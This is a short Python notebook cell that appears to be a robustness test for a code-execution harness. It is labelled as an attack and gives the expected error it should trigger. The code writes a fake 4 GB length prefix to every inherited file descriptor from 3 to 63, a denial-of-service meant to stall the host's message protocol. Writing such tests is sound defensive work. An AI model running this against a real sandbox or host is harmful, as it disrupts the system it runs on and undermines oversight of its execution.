# attack: announce a message of 4 GB and never send it
# told: Code cell 3 did not run to its end
# %%
import os

for number in range(3, 64):
    try:
        os.set_blocking(number, False)
        os.write(number, b"\xff\xff\xff\xff")
    except OSError:
        pass
